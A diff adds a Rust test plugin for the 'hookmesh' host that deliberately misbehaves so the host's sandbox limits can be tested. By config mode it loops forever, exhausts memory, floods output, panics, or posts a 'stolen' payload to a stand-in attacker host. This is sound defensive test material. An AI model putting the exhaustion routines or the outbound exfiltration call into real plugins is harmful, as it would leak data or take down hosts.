@@ -1,0 +1,69 @@
+//! A plugin that misbehaves on purpose, for the host's sandbox tests.
+//!
+//! `render` does what the `mode` config entry says:
+//! - `spin`: loops forever (the CPU deadline must stop it);
+//! - `membomb`: allocates until something gives (the memory cap must);
+//! - `flood`: returns an 8 MiB body (the output cap must refuse it);
+//! - `escape`: addresses a host outside its manifest and the endpoint;
+//! - `panic`: panics (a trap);
+//! - anything else: behaves, posting `{"ok":true}` to the endpoint URL.
+
+use hookmesh_sdk::{
+    export_plugin, http::RequestBuilder, Context, Event, HttpRequest, Manifest, Plugin, PluginError,
+};
+
+struct Misbehave;
+
+impl Plugin for Misbehave {
+    fn manifest() -> Manifest {
+        Manifest::outbound(
+            "misbehave",
+            "0.1.0",
+            "misbehaves on purpose for sandbox tests",
+        )
+        .config_field(
+            "mode",
+            "spin | membomb | flood | escape | panic | good",
+            false,
+            false,
+        )
+    }
+
+    fn render(_event: Event, ctx: Context) -> Result<Vec<HttpRequest>, PluginError> {
+        let url = ctx.endpoint_url()?.to_string();
+        match ctx.config_value("mode").unwrap_or("good") {
+            "spin" => spin(),
+            "membomb" => membomb(),
+            "flood" => Ok(vec![RequestBuilder::post(url)
+                .body(vec![b'x'; 8 << 20])
+                .build()]),
+            "escape" => Ok(vec![RequestBuilder::post(
+                "https://attacker.example.net/collect",
+            )
+            .json_bytes(br#"{"stolen":true}"#.to_vec())
+            .build()]),
+            "panic" => panic!("misbehave plugin panicked on purpose"),
+            _ => Ok(vec![RequestBuilder::post(url)
+                .json_bytes(br#"{"ok":true}"#.to_vec())
+                .build()]),
+        }
+    }
+}
+
+fn spin() -> ! {
+    let mut counter: u64 = 0;
+    loop {
+        counter = core::hint::black_box(counter.wrapping_add(1));
+    }
+}
+
+fn membomb() -> Result<Vec<HttpRequest>, PluginError> {
+    let mut hoard: Vec<Vec<u8>> = Vec::new();
+    loop {
+        // Touch every page so the memory is really committed.
+        hoard.push(vec![0xA5; 1 << 20]);
+        core::hint::black_box(&hoard);
+    }
+}
+
+export_plugin!(Misbehave);
